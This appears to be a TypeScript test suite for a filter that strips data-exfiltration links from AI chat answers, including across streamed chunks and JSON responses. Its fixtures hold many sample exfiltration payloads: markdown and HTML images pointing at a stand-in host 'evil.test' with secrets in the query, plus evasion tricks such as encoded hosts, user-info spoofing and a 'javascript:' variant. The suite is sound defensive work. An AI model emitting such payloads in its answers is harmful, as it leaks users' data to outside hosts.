import { describe, expect, it } from 'vitest';
import { createRedactionChannels } from '../data-leak/channels.js';
import { chainRedactionChannels } from '../data-leak/channels.js';
import { redactText, scanText } from '../data-leak/scan.js';
import { createStreamRedactor } from '../data-leak/stream-redactor.js';
import { compileAllowlist, createExfilLinkDetector, exfilLinkDetector, exfilLinksSchema, judgeAddress, neutralizeAnswerLinks, normalizeDomainPattern } from './index.js';

const set = createExfilLinkDetector(compileAllowlist(['docs.example.com', '*.cdn.example.com']));
const neutralize = (text: string) => redactText(text, scanText(text, set));

describe('the exfiltration-link matcher', () => {
  it.each([
    ['a markdown image, data in the query', 'Look ![](https://evil.test/x?d=secret) here', 'Look [image removed: evil.test] here'],
    ['an image with alt text and a title', '![chart](https://evil.test/x?d=1 "t") ok', 'chart [image removed: evil.test] ok'],
    ['an image whose address is in <…> (spaces allowed)', '![](<https://evil.test/a b c>)', '[image removed: evil.test]'],
    ['an uppercase scheme and host', '![](HTTPS://EVIL.TEST/x?D=1)', '[image removed: evil.test]'],
    ['a protocol-relative address', '![](//evil.test/x)', '[image removed: evil.test]'],
    ['backslashes a browser reads as slashes', '![](/\\evil.test/x)', '[image removed: evil.test]'],
    ['character references in the address', '![](https&#58;&#x2F;&#x2F;evil.test/x)', '[image removed: evil.test]'],
    ['a percent-encoded host', '![](https://%65vil.test/x)', '[image removed: evil.test]'],
    ['user info naming an allowed host', '![](https://docs.example.com@evil.test/x)', '[image removed: evil.test]'],
    ['an allowed host as a subdomain of another', '[a](https://docs.example.com.evil.test/)', 'a [link removed: docs.example.com.evil.test]'],
    ['a markdown link', '[click](https://evil.test/?q=secret) now', 'click [link removed: evil.test] now'],
    ['a reference definition', '![a][x]\n\n[x]: https://evil.test/?d=1 "t"', '![a][x]\n\nx [link removed: evil.test]'],
    ['a link around an image', '[![a](https://evil.test/1)](https://evil.test/2)', '[a [image removed: evil.test]] [link removed: evil.test]'],
    ['a link whose text is too long to keep whole', `[${'w'.repeat(300)}](https://evil.test/x)`, `[${'w'.repeat(300)}] [link removed: evil.test]`],
    ['an autolink', 'go <https://evil.test/?q=s> now', 'go [link removed: evil.test] now'],
    ['a mailto link (no host: its scheme is named)', '[write](mailto:a@evil.test?body=secret)', 'write [link removed: mailto]'],
    ['an HTML img', '<img src="https://evil.test/p.png?d=1"> ok', '[image removed: evil.test] ok'],
    ['an HTML img in capitals, unquoted', '<IMG SRC=HTTPS://EVIL.TEST/x> ok', '[image removed: evil.test] ok'],
    ['an img whose srcset has one host not allowed', '<img src="https://docs.example.com/a.png" srcset="https://docs.example.com/a 1x, https://evil.test/b 2x">', '[image removed: evil.test]'],
    ['a CSS url() in a style attribute', '<div style="background:url(//evil.test/x)">hi</div>', '[link removed: evil.test]hi</div>'],
    ['an address made of character references', '<img src="&#x68;ttps&#58;&#x2F;&#x2F;evil.test/x">', '[image removed: evil.test]'],
    ['a tag whose quoted value hides its real end', '<img alt="a>b" src="https://evil.test/x">', '[image removed: html]b" src="https://evil.test/x">'],
    ['full-width letters (folded before the scan)', '![](ｈｔｔｐｓ://evil.test/x)', '[image removed: evil.test]'],
  ])('neutralises %s', (_name, text, expected) => {
    expect(neutralize(text)).toBe(expected);
  });

  it.each([
    ['an allowed host', '![](https://docs.example.com/x.png) [g](https://docs.example.com/guide)'],
    ['a subdomain of a wildcard', '![](https://img.cdn.example.com/x.png)'],
    ['relative addresses, which stay on the client', '![logo](/static/logo.png) [see](#section) [doc](docs/a.md) <img src="/a.png">'],
    ['an allowed host in an HTML img', '<img src="https://docs.example.com/a.png" alt="a">'],
    ['plain prose with brackets, comparisons and tags', 'Step [1] and a < b, x <b>bold</b> <br/>, [ ] todo, arr[i] = f(x), see [the notes]. Done!'],
    ['a bare URL in prose (nothing is fetched, the address is in plain sight)', 'see https://evil.test/x?d=1 for more'],
    ['a reference in prose that is no address', '[note]: see below, at 10:30'],
  ])('keeps %s', (_name, text) => {
    expect(scanText(text, set)).toEqual([]);
  });

  it('does not take the apex of a wildcard for one of its subdomains', () => {
    expect(neutralize('![](https://cdn.example.com/x.png)')).toBe('[image removed: cdn.example.com]');
  });

  it('reports each finding on the original text, with its replacement', () => {
    const text = 'a ![](https://evil.test/x) b';
    expect(scanText(text, set)).toEqual([{ detector: 'exfil_link', kind: 'link', start: 2, end: text.indexOf(' b'), replacement: '[image removed: evil.test]' }]);
  });
});

describe('a link split across stream deltas', () => {
  const text = 'Sure! ![chart](https://evil.test/c.png?d=SECRET "t") and [ok](https://docs.example.com/a), <img src="https://evil.test/p?d=SECRET"> done.';
  const whole = neutralize(text);

  it('is held back until its address is known, at every split point and one character at a time', () => {
    expect(whole).toBe('Sure! chart [image removed: evil.test] and [ok](https://docs.example.com/a), [image removed: evil.test] done.');
    for (let cut = 1; cut < text.length; cut++) {
      const redactor = createStreamRedactor(set);
      const out = redactor.push(text.slice(0, cut)) + redactor.push(text.slice(cut)) + redactor.flush();
      expect(out, `cut at ${cut}`).toBe(whole);
    }
    const redactor = createStreamRedactor(set);
    const released: string[] = [];
    for (const char of text) released.push(redactor.push(char));
    released.push(redactor.flush());
    expect(released.join('')).toBe(whole);
    // Not one piece of the address went out before it was judged.
    expect(released.some((piece) => piece.includes('SECRET') || piece.includes('c.png'))).toBe(false);
  });

  it('prose goes out at once, but for what could still open a link', () => {
    const redactor = createStreamRedactor(set);
    expect(redactor.push('Plain words, nothing to hold ')).toBe('Plain words, nothing to hold ');
    expect(redactor.push('until ![')).toBe('until ');
    expect(redactor.push('a] is not one.')).toBe('![a] is not one.');
  });

  it('after the data-leak guard in a chain: tails go through both, tool arguments only through the first', () => {
    const leak = createRedactionChannels(['email']);
    const links = createRedactionChannels(set);
    const chain = chainRedactionChannels(leak, links, (channel) => !channel.startsWith('tool:'));
    let out = chain.redact('text:0', 'Mail [jane@example.com](https://evil.test/?to=jane@exa');
    out += chain.redact('text:0', 'mple.com');
    const tool = chain.redact('tool:0:0', '{"md":"![](https://evil.test/x)"}') + (chain.end('tool:0').get('tool:0:0') ?? '');
    out += chain.end('text:0').get('text:0') ?? '';
    // The email was redacted first (in the link's text and its address), then the link removed.
    expect(out).toBe('Mail [[REDACTED:email]] [link removed: evil.test]');
    expect(tool).toBe('{"md":"![](https://evil.test/x)"}');
  });
});

describe('JSON answers', () => {
  it('neutralises answer text in place and leaves tool-call arguments alone', () => {
    const answer = {
      choices: [{ message: { content: 'x ![](https://evil.test/a)', tool_calls: [{ function: { name: 'post', arguments: '{"body":"![](https://evil.test/a)"}' } }] } }],
      content: [
        { type: 'tool_use', input: { body: '[a](https://evil.test/b)' } },
        { type: 'thinking', thinking: 'maybe ![](https://evil.test/c)', signature: 'sig' },
      ],
    };
    expect(neutralizeAnswerLinks(answer, set)).toEqual([{ path: '$.choices[0].message.content', host: 'evil.test' }]);
    expect(answer.choices[0]!.message.content).toBe('x [image removed: evil.test]');
    expect(answer.choices[0]!.message.tool_calls[0]!.function.arguments).toBe('{"body":"![](https://evil.test/a)"}');
    expect(answer.content[0]!.input!.body).toBe('[a](https://evil.test/b)');
    expect(answer.content[1]!.thinking).toBe('maybe ![](https://evil.test/c)');
  });
});

describe('configuration', () => {
  it('defaults to neutralize with no host allowed; off builds no detector', () => {
    const config = exfilLinksSchema.parse({});
    expect(config).toEqual({ action: 'neutralize', allowedDomains: [] });
    expect(exfilLinkDetector(config)).not.toBeNull();
    expect(exfilLinkDetector(config)).toBe(exfilLinkDetector(config));
    expect(exfilLinkDetector(exfilLinksSchema.parse({ action: 'off' }))).toBeNull();
  });

  it('accepts host names and wildcards, normalised; refuses URLs and ports', () => {
    expect(normalizeDomainPattern('Docs.Example.COM.')).toBe('docs.example.com');
    expect(normalizeDomainPattern('*.Example.com')).toBe('*.example.com');
    for (const bad of ['https://example.com', 'example.com:443', 'example.com/x', '*', 'a*.example.com', '']) {
      expect(exfilLinksSchema.safeParse({ allowedDomains: [bad] }).success, bad).toBe(false);
    }
  });

  it('judges an address as a browser resolves it', () => {
    const allows = compileAllowlist(['example.com']);
    expect(judgeAddress('https://EXAMPLE.com./x', allows)).toBeNull();
    expect(judgeAddress('relative/path', allows)).toBeNull();
    // Markdown reads `\@` as an escaped `@`: the host is then the one after it.
    expect(judgeAddress('https://example.com\\@evil.test/', allows)).toBe('evil.test');
    expect(judgeAddress('https://example.com@evil.test/', allows)).toBe('evil.test');
    expect(judgeAddress('java\tscript:alert(1)', allows)).toBe('javascript');
    expect(judgeAddress('https://', allows)).toBe('invalid');
  });
});
